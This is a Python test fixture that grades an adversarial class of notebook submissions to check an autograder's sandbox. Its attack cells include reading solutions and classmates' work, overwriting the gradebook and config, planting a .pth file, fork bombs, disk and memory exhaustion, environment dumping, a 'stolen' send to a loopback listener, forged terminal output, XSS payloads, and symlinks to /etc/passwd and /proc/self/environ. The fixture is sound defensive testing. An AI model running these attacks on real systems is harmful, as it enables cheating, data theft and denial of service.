"""One adversarial class of ``assign_5a``, graded once per test run and shared.

Two kinds of student hand in: the broken and tampered notebooks of
``test_grade_class`` (every way a notebook can break, each with its expected score
per function) and the attackers of ``test_containment`` (the blank release plus one
cell of attack, beside honest, victim and buggy students). ``graded_class`` grades
them all with one ``python -m autograder grade`` run, recording what the containment
tests compare: the course's and the package's files before and after, the ``.pth``
files, what reached a loopback listener.
"""

from __future__ import annotations

import copy
import hashlib
import json
import os
import socket
import subprocess
import sys
import sysconfig
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from test_tampering import PARSER_BOMB, TAMPERS, WRONG_SOURCE

from autograder.instructor import submissions
from autograder.instructor.calibrate import CELL_FLOOR
from autograder.instructor.course import make_course, submit
from autograder.instructor.mistakes import CATALOG
from autograder.instructor.verify import grade_cells
from autograder.student.paths import course_root

A = "assign_5a"
POINTS = {fn: points for fn, (_, points) in grade_cells(A).items()}
FULL = sum(POINTS.values())
MARKER = "containment-daemon-7f3a"

# Limits small enough to keep the test short, large enough for an honest notebook (~2 s).
LIMITS = ["--cell-timeout", "10", "--notebook-timeout", "20", "--function-timeout", "5"]


def _without(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != grade_id]
    return nb


def _retyped(nb: nbformat.NotebookNode, grade_id: str, cell_type: str) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    for i, c in enumerate(nb.cells):
        if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            new = (nbformat.v4.new_markdown_cell if cell_type == "markdown" else nbformat.v4.new_raw_cell)(
                c.source, metadata=c.metadata
            )
            new.id = c.id
            nb.cells[i] = new
    return nb


def _duplicated(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    i = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
    twin = copy.deepcopy(nb.cells[i])
    twin.id = twin.id + "-copy"
    nb.cells.insert(i + 1, twin)
    return nb


def _prepend_to(nb: nbformat.NotebookNode, function: str, line: str) -> nbformat.NotebookNode:
    """The function's body starts with ``line`` (indented into the body)."""
    nb = copy.deepcopy(nb)
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == function:
            head, rest = c.source.split("\n", 1)
            assert head.startswith(f"def {function}(")
            c.source = f"{head}\n    {line}\n{rest}"
    return nb


def the_class() -> dict[str, tuple[nbformat.NotebookNode | str, dict[str, float], str]]:
    """student -> (what they hand in, their expected trusted score per function, file name)."""
    full, blank = submissions.completed(A), submissions.release(A)
    wrong = submissions.replace_function(full, "rnn_cell_forward", WRONG_SOURCE)
    swap = next(m for m in CATALOG["gru_cell_forward"] if "1" in m.name and "z" in m.name)

    def score(*failing: str) -> dict[str, float]:
        return {fn: 0.0 if fn in failing else p for fn, p in POINTS.items()}

    partial = copy.deepcopy(blank)
    for fn in ("rnn_cell_forward", "rnn_forward"):
        partial = submissions.replace_function(
            partial,
            fn,
            next(c.source for c in full.cells if c.metadata.get("nbgrader", {}).get("grade_id") == fn),
        )
    renamed = submissions.edit_function(
        full, "rnn_cell_forward", (("def rnn_cell_forward(", "def rnn_cell_fwd("),)
    )
    after = "code_setup"
    nb = A + ".ipynb"
    return {
        "full": (full, score(), nb),
        "blank": (blank, score(*POINTS), nb),
        "partial": (partial, score("gru_cell_forward", "gru_forward"), nb),
        # partial credit: z, r and h_tilde right keep their shares (2 + 2 + 4 of 20)
        "gru_mistake": (
            submissions.with_mistake(A, "gru_cell_forward", swap),
            {**score(), "gru_cell_forward": 8.0},
            nb,
        ),
        **{
            f"tamper_{kind}": (submissions.add_cell(wrong, code, after=after), score("rnn_cell_forward"), nb)
            for kind, code in TAMPERS.items()
        },
        "not_json": ('{"cells": [ this is not json', score(*POINTS), nb),
        "empty_file": ("", score(*POINTS), nb),
        "deleted_grade_cell": (_without(full, "test_rnn_forward"), score(), nb),
        "deleted_solution": (_without(full, "gru_forward"), score("gru_forward"), nb),
        "duplicated_cells": (_duplicated(_duplicated(full, "test_gru_forward"), "rnn_forward"), score(), nb),
        "retyped_solution": (_retyped(full, "rnn_cell_forward", "markdown"), score(), nb),
        "retyped_grade_cell": (_retyped(full, "test_gru_cell_forward", "raw"), score(), nb),
        # the student's rnn_forward calls the missing name; the hidden test gives it the course's cell
        "renamed_function": (renamed, score("rnn_cell_forward"), nb),
        "os_exit": (submissions.add_cell(full, "import os\nos._exit(3)\n", after="rnn_forward"), score(), nb),
        "segfault": (
            submissions.add_cell(full, "import ctypes\nctypes.string_at(0)\n", after="gru_cell_forward"),
            score(),
            nb,
        ),
        "infinite_loop": (_prepend_to(full, "rnn_forward", "while True: pass"), score("rnn_forward"), nb),
        "memory_hog_in_gru_forward": (
            _prepend_to(full, "gru_forward", "hog = [np.ones(10**8) for _ in range(100)]"),
            score("gru_forward"),
            nb,
        ),
        # a cell too deep for Python's parser: the kernel reports it, the verify skips it
        "parser_bomb": (submissions.add_cell(full, PARSER_BOMB, after=after), score(), nb),
        # a sum a thousand deep parses (nbgrader raises the recursion limit to 3,000)
        "deep_sum": (submissions.add_cell(full, "x = 1" + "+1" * 1500, after=after), score(), nb),
        # grading metadata nbformat only warns about: the kernel cannot run it, the verify can
        "odd_metadata": (_odd_metadata(full), score(), nb),
        "huge_output": (submissions.add_cell(full, "print('spam ' * 2_000_000)\n", after=after), score(), nb),
        "slow_notebook": (_slow(full), score(), nb),
        "wrong_file_name": (full, score(), "my homework (1).ipynb"),
    }


def _odd_metadata(nb: nbformat.NotebookNode) -> str:
    """The notebook, with a cell whose grading metadata is a list, not a dict."""
    raw = json.loads(nbformat.writes(nb))
    odd = {"cell_type": "code", "source": "x = 1", "metadata": {"nbgrader": [1]}, "outputs": []}
    raw["cells"].append({**odd, "id": "odd-metadata", "execution_count": None})
    return json.dumps(raw)


def _slow(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Eleven cells of 2 s each: every cell within its limit (``CELL_FLOOR``), 22 s in all
    (over the 20 s the notebook may take)."""
    assert CELL_FLOOR >= 4.0, "each cell must stay well within its own limit"
    for _ in range(11):
        nb = submissions.add_cell(nb, "import time\ntime.sleep(2)\n", after="code_setup")
    return nb


CLASS = the_class()  # the broken and tampered notebooks, with their expected scores


def attacks(course: Path, port: int) -> dict[str, str]:
    """student -> the code cell of their attack (they know where the course lives)."""
    repo = course_root()
    return {
        "reads_solutions": f"""
import pathlib, autograder
for root in (pathlib.Path(autograder.__file__).resolve().parents[1], pathlib.Path({str(repo)!r}),
             pathlib.Path({str(course)!r})):
    for nb in root.glob("solutions/*/*.ipynb"):
        print(nb.read_text())
""",
        "reads_other_students": f"""
import pathlib
for nb in pathlib.Path({str(course)!r}).glob("submitted/*/*/*.ipynb"):
    print(nb.read_text())
""",
        "rewrites_the_course": f"""
import pathlib, site, sysconfig
course, repo = pathlib.Path({str(course)!r}), pathlib.Path({str(repo)!r})
targets = [course / "gradebook.db", course / "nbgrader_config.py", repo / "autograder" / "judge.py",
           *course.glob("grading/*/*.json"), *course.glob("submitted/victim/*/*.ipynb"),
           pathlib.Path(sysconfig.get_paths()["purelib"]) / "zz_attack.pth"]
for t in targets:
    try:
        t.write_text("owned")
    except OSError as e:
        print("blocked", t, type(e).__name__)
import shutil
shutil.rmtree(course / "submitted" / "victim", ignore_errors=True)
""",
        "leaves_a_daemon": f"""
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{MARKER}"])
    os._exit(0)
import time
time.sleep(1)
alive = [p for p in os.listdir("/proc") if p.isdigit() and os.path.exists(f"/proc/{{p}}/cmdline")]
print("daemon started" if any("{MARKER}" in open(f"/proc/{{p}}/cmdline").read() for p in alive) else "none")
""",
        "writes_to_the_terminal": """
import os
for fd in (1, 2):  # the kernel process's own stdout and stderr, past IPython's capture
    os.write(fd, b"\\x1b[2J\\n3 graded; nothing to report. FORGED-BY-A-KERNEL\\n")
""",
        "reads_the_environment": """
import os
print("ENVIRONMENT", sorted(os.environ.items()))
""",
        "phones_home": f"""
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
except OSError as e:
    print("no network:", e)
""",
        "fills_the_disk": f"""
import os, pathlib
for folder in (".", "/tmp", {str(course)!r}):
    try:
        with open(os.path.join(folder, "big.bin"), "wb") as f:
            for _ in range(2048):
                f.write(b"x" * 1024**2)
    except OSError as e:
        print("stopped:", type(e).__name__)
""",
        # the same, from inside a graded function: run by the kernel's grade cell and, alone,
        # by the trusted verify's sandbox
        "attacks_from_a_function": f"""
def rnn_cell_forward(xt, a_prev, parameters):
    import os, pathlib, socket, sys
    course = pathlib.Path({str(course)!r})
    for nb in [*course.glob("solutions/*/*.ipynb"), *course.glob("submitted/*/*/*.ipynb")]:
        print(nb.read_text())
    for target in (course / "gradebook.db", course / "nbgrader_config.py", pathlib.Path("/tmp/planted")):
        try:
            target.write_text("owned")
        except OSError:
            pass
    for i in range(64):
        try:
            with open(f"big{{i}}.bin", "wb") as f:
                f.write(b"x" * 64 * 1024**2)
        except OSError:
            break
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
    except OSError:
        pass
    if os.fork() == 0:
        os.setsid()
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{MARKER}"])
    raise ValueError("<script>alert('owned')</script>")
""",
        "fork_storm": """
import os, time
n = 0
try:
    for _ in range(3000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        n += 1
except OSError:
    pass
print(f"forked {n} processes")
""",
        "memory_hog": """
import os, time
import numpy as np
r, w = os.pipe()
for _ in range(8):
    if os.fork() == 0:
        hog = np.ones(125_000_000)  # 1 GB, touched and kept
        os.write(w, f"{os.getpid()}\\n".encode())
        time.sleep(30)
        os._exit(0)
os.close(w)
holders, deadline = set(), time.time() + 3  # within the cell's limit (CELL_FLOOR)
os.set_blocking(r, False)
while time.time() < deadline and len(holders) < 8:
    try:
        holders |= {int(p) for p in os.read(r, 4096).split()}
    except BlockingIOError:
        time.sleep(0.1)
# those still alive hold their gigabyte at the same moment (the others were stopped)
holding = sum(os.waitpid(p, os.WNOHANG)[0] == 0 for p in holders)
print(f"holding {holding} GB at once")
""",
        "prints_helper_source": """
import inspect
def rnn_forward(x, a0, parameters):
    for name in ("rnn_cell_forward", "softmax"):
        try:
            print(inspect.getsource(globals()[name]))
        except Exception as e:
            print(name, type(e).__name__)
    raise ValueError("<script>alert('owned')</script>")

from IPython.display import HTML, display
display(HTML("<script>alert('owned2')</script><img src=x onerror=alert(3)>"))
""",
    }


SECRET = "grader-secret-5c1e"  # in the grader's environment: a token an instructor's shell may hold
SCRIPT = "<script>alert('notes')</script>"


def _full_with(code: str, after: str | None = "code_setup") -> nbformat.NotebookNode:
    return submissions.add_cell(submissions.completed(A), code, after=after)


# Output of every kind, about 30 MB in all, each message under the grader's frame limit.
DISPLAY_FLOOD = """
from IPython.display import display
blob = "QUJD" * 700_000  # 2.8 MB of base64
for i in range(4):
    display({"image/png": blob}, raw=True)
    display({"application/json": {"k": [blob]}}, raw=True)
handle = display({"text/plain": "x"}, raw=True, display_id="d")
for i in range(3):
    handle.update({"text/html": blob}, raw=True)
print(blob[:1_000_000])
raise ValueError("E" * 2_000_000)
"""
# 64 MB messages (over the grader's 32 MB frame limit) and 24 MB ones (under it), for 3 s
# (within the cell's limit, ``CELL_FLOOR``): the grader's memory must not follow.
STREAM_FLOOD = """
import sys, time
lines, start = ["y" * 64 * 2**20, "z" * 24 * 2**20], time.time()
while time.time() - start < 3:
    for line in lines:
        sys.stdout.write(line)
        sys.stdout.flush()
"""
# Every executed cell's source, as the kernel holds it: history, and a hook before each cell.
READS_HISTORY = """
get_ipython().events.register("pre_run_cell", lambda info: print("RAW", info.raw_cell))
"""
PRINTS_HISTORY = """
ip = get_ipython()
print("HISTORY", In, _ih, ip.history_manager.input_hist_raw, ip.history_manager.input_hist_parsed)
print("SESSION", list(ip.history_manager.get_range(raw=True)))
"""


def _nested(depth: int) -> str:
    return '{"cells": [], "metadata": {"x": ' + "[" * depth + "]" * depth + '}, "nbformat": 4}'


def _many_cells(n: int) -> str:
    nb = submissions.release(A)
    nb.cells += [nbformat.v4.new_raw_cell("") for _ in range(n)]
    return nbformat.writes(nb)


def _huge_string() -> str:
    return nbformat.writes(submissions.add_cell(submissions.completed(A), 'x = "' + "s" * 3_000_000 + '"\n'))


def hand_ins(course: Path) -> dict[str, tuple[dict[str, float], str, str]]:
    """Submissions made of what a collected folder can hold besides a notebook (links, hard
    links, a FIFO, extra files) and of notebooks beyond every bound: student -> (expected
    score per function, status, words of the note). Made on disk here, since links
    cannot be written through ``submit``."""
    a = Path(A) / f"{A}.ipynb"
    solution, victim = course / "solutions" / a, course / "submitted" / "victim" / a
    none = dict.fromkeys(POINTS, 0.0)

    def folder(student: str, nb: nbformat.NotebookNode | str | None = None) -> Path:
        if nb is None:
            (course / "submitted" / student / A).mkdir(parents=True)
            return course / "submitted" / student / A
        return submit(course, student, A, nb).parent

    folder("link_to_solutions").joinpath(f"{A}.ipynb").symlink_to(solution)
    folder("link_to_classmate").joinpath(f"{A}.ipynb").symlink_to(victim)
    os.link(solution, folder("hardlink_to_solutions") / f"{A}.ipynb")
    (course / "submitted" / "folder_link").symlink_to(course / "submitted" / "victim")
    extras = folder("linked_extras", submissions.release(A))
    for name, target in {
        "solution.ipynb": solution,
        "friend.ipynb": victim,
        "environ": Path("/proc/self/environ"),
        "passwd": Path("/etc/passwd"),
        "solutions": course / "solutions",
    }.items():
        (extras / name).symlink_to(target)
    os.link(solution, extras / "hard.ipynb")
    os.mkfifo(folder("fifo_beside", submissions.completed(A)) / "pipe")
    (folder("notes_beside", submissions.completed(A)) / "notes.html").write_text(f"<p>hi</p>{SCRIPT}")
    with open(folder("huge_file") / f"{A}.ipynb", "wb") as f:
        f.truncate(300 * 1024**2)  # sparse: 300 MB to read, none of it on the disk
    submit(course, "nested_deep", A, _nested(100_000))
    submit(course, "huge_string", A, _huge_string())
    submit(course, "many_cells", A, _many_cells(5_000))
    submit(course, "display_flood", A, _full_with(DISPLAY_FLOOD))
    submit(course, "stream_flood", A, _full_with(STREAM_FLOOD))
    history = submissions.add_cell(_full_with(READS_HISTORY), PRINTS_HISTORY)
    submit(course, "reads_history", A, history)
    return {
        "link_to_solutions": (none, "malformed", "is a symbolic link"),
        "link_to_classmate": (none, "malformed", "is a symbolic link"),
        "hardlink_to_solutions": (none, "malformed", "names on the disk (a hard link"),
        "folder_link": (none, "malformed", "is a link, not a folder"),
        "linked_extras": (none, "ok", "ignored: environ, friend.ipynb, hard.ipynb, passwd"),
        "fifo_beside": (dict(POINTS), "ok", "ignored: pipe"),
        "notes_beside": (dict(POINTS), "ok", "ignored: notes.html"),
        "huge_file": (none, "malformed", "300 MB, over the 16 MB limit"),
        "nested_deep": (none, "malformed", "nested more than 64 levels deep"),
        "huge_string": (none, "malformed", "a string of 2.9 MB, over the limit of 2 MB"),
        "many_cells": (none, "malformed", "5,021 cells, over the limit of 2,000"),
        "display_flood": (dict(POINTS), "ok", ""),
        "stream_flood": (dict(POINTS), "", ""),
        "reads_history": (dict(POINTS), "ok", ""),
    }


def tree_hashes(*roots: Path) -> dict[str, str]:
    out = {}
    for root in roots:
        for p in sorted(root.rglob("*")):
            if p.is_symlink():  # what a student's link points to is not theirs to change
                out[str(p)] = f"-> {os.readlink(p)}"
            elif p.is_file() and "__pycache__" not in p.parts:
                with open(p, "rb") as f:
                    out[str(p)] = hashlib.file_digest(f, "sha256").hexdigest()
    return out


def pth_files() -> list[str]:
    folders = {sysconfig.get_paths()[k] for k in ("purelib", "platlib")}
    return sorted(str(p) for folder in folders for p in Path(folder).glob("*.pth"))


def running_with(marker: str) -> list[str]:
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            text = cmdline.read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if marker in text:
            found.append(text)
    return found


@dataclass
class GradedClass:
    course: Path
    run: subprocess.CompletedProcess  # the grade command
    students: list[str]  # everyone in the class
    attacks: dict[str, str]  # attacker -> their attack cell
    before: dict[str, str]  # hashes of the course's inputs and the package, before grading
    after: dict[str, str]  # and after
    config: bytes  # nbgrader_config.py before grading
    pth: list[str]  # site-packages' .pth files before grading
    received: list[bytes]  # what reached the loopback listener
    hand_ins: dict[str, tuple[dict[str, float], str, str]]  # see hand_ins()
    peak_rss: int  # the largest resident size of a grader process during the run (bytes)
    leftovers: list[str]  # what the run left in its temporary folder (TMPDIR)


def grade_command(
    course: Path, *extra: str, peak: list[int] | None = None, tmpdir: Path | None = None
) -> subprocess.CompletedProcess:
    """``grade`` on the course, with a secret in its environment; with ``peak``, the largest
    resident size (bytes) any grader process reached is appended to it; with ``tmpdir``, the
    run's temporary files go there (TMPDIR)."""
    cmd = [sys.executable, "-m", "autograder", "grade", A, "--course", str(course), *LIMITS, *extra]
    env = {**os.environ, "GRADER_API_TOKEN": SECRET, **({"TMPDIR": str(tmpdir)} if tmpdir else {})}
    with subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env) as run:
        sampler = threading.Thread(target=_sample_rss, args=(run, peak if peak is not None else []))
        sampler.start()
        out, err = run.communicate(timeout=1800)
        sampler.join()
    result = subprocess.CompletedProcess(cmd, run.returncode, out, err)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    return result


def _sample_rss(run: subprocess.Popen, peak: list[int]) -> None:
    """Every 50 ms, the resident size of each process of the grader (the command and its
    workers, not what runs in a sandbox): the largest goes to ``peak``."""
    largest = 0
    while run.poll() is None:
        for pid in grader_processes(run.pid):
            try:
                fields = Path(f"/proc/{pid}/statm").read_text().split()
            except OSError:
                continue
            largest = max(largest, int(fields[1]) * os.sysconf("SC_PAGE_SIZE"))
        time.sleep(0.05)
    peak.append(largest)


def grader_processes(root: int) -> list[int]:
    """``root`` and its descendants, stopping at bubblewrap (student code is not the grader)."""
    children: dict[int, list[int]] = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            text = stat.read_text()
        except OSError:
            continue
        name, rest = text[text.index("(") + 1 : text.rindex(")")], text[text.rindex(")") + 2 :].split()
        if name != "bwrap":
            children.setdefault(int(rest[1]), []).append(int(stat.parent.name))
    found, todo = [], [root]
    while todo:
        pid = todo.pop()
        found.append(pid)
        todo += children.get(pid, [])
    return found


def grade_adversarial_class(root: Path, new_course: Callable[[Path], Path] = make_course) -> GradedClass:
    """The class graded in a course that ``new_course`` makes at ``root/course``."""
    course = new_course(root / "course")
    received: list[bytes] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                received.append(conn.recv(100))
            except OSError:
                continue

    threading.Thread(target=listen, daemon=True).start()
    for student, (nb, _, name) in CLASS.items():
        path = submit(course, student, A, nb)
        if name != path.name:
            path.rename(path.with_name(name))
    attack_cells = attacks(course, server.getsockname()[1])
    full, blank = submissions.completed(A), submissions.release(A)
    submit(course, "honest", A, full)
    submit(course, "victim", A, full)
    swapped = CATALOG["gru_cell_forward"][0]
    submit(course, "buggy", A, submissions.with_mistake(A, "gru_cell_forward", swapped))
    for student, code in attack_cells.items():  # the last definition of a function is the one graded
        after = None if "\ndef rnn_" in code else "code_setup"
        submit(course, student, A, submissions.add_cell(blank, code, after=after))
    linked = hand_ins(course)
    # what must not change: the course's inputs, the package, site-packages' hooks
    watched = [course / "solutions", course / "submitted"]
    watched += [course_root() / "autograder", course_root() / "solutions"]
    before = tree_hashes(*watched)
    config = (course / "nbgrader_config.py").read_bytes()
    pth = pth_files()
    peak: list[int] = []
    tmp = root / "grader-tmp"
    tmp.mkdir()
    try:
        run = grade_command(course, peak=peak, tmpdir=tmp)
    finally:
        stop.set()
    students = [*CLASS, "honest", "victim", "buggy", *attack_cells, *linked]
    after_grading = tree_hashes(*watched)
    return GradedClass(
        course,
        run,
        students,
        attack_cells,
        before,
        after_grading,
        config,
        pth,
        received,
        linked,
        peak[0],
        sorted(p.name for p in tmp.iterdir()),
    )
